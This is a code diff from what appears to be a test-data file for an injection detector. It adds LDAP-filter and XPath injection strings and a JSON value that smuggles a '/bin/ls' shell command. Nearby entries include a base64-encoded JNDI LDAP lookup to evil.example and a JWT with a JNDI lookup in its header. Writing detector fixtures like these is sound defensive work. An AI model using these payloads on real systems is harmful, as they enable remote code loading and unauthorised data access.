@@ -393,7 +393,12 @@ for i, (where, v) in enumerate([
         (2, b"redirect_uri=http%3A%2F%2F127.0.0.1%3A8080%2F&next=a%3Fredirect_uri%3Dhttp://10.0.0.1/"),
         (2, b"d=JHtqbmRpOmxkYXA6Ly9ldmlsLmV4YW1wbGUvYX0%3D&e=eyIkbmUiOm51bGx9"),
         (3, b"Bearer eyJhbGciOiAiSFMyNTYiLCAia2lkIjogIiR7am5kaTpsZGFwOi8veC9hfSJ9.eyJzdWIiOiAiMSJ9.c2ln"),
-        (3, b"eyJ7Ijoi.eyJcdTAwMjIiOiJcIiJ9.")]):
+        (3, b"eyJ7Ijoi.eyJcdTAwMjIiOiJcIiJ9."),
+        # LDAP filters and XPath (payload_ldap.c): items, operators, an
+        # extensible match, unions and axes, and the look-alikes
+        (2, b"u=*)(uid=*))(|(uid=*&v=admin)(!(%26(1=0&w=*)(cn:dn:=x&x=*(|(mail=*))&y=f(x)(y=>1)"),
+        (2, b"u=' and count(/*)=1 and '1'='1&v=')] | //user/*[contains(*,'&w=count(/child::node())"),
+        (5, b'{"u":"x\' or name()=\'a\' or \'","v":"test\'|/b[i]n/ls","w":"parent::__construct()"}')]):
     put("detect", "data-%d" % i, bytes([where - 1]) + v)
 # the generated SQL injection and XSS tables (tools/gen-sqli-xss.py) and
 # the tricky benign values: every context, technique and encoding the two
